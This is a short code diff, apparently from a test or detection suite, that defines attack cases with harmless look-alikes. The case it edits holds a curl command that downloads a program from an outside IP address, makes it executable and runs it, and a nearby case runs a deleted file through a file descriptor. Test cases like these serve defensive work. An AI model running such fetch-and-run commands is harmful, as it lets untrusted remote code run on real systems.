@@ -31,7 +31,7 @@ rm /srv/deleted
 exec /proc/self/fd/9
 """, look_alike="true; cp /usr/bin/true /srv/data; exec 9</srv/data; rm /srv/data; wc -c <&9"),
 
-    Proof("Downloaded, made executable and run", alone=True, attack="""
+    Proof("Downloaded, made executable and run", attack="""
 curl -s -o /srv/download http://203.0.113.9/program
 chmod +x /srv/download
 /srv/download
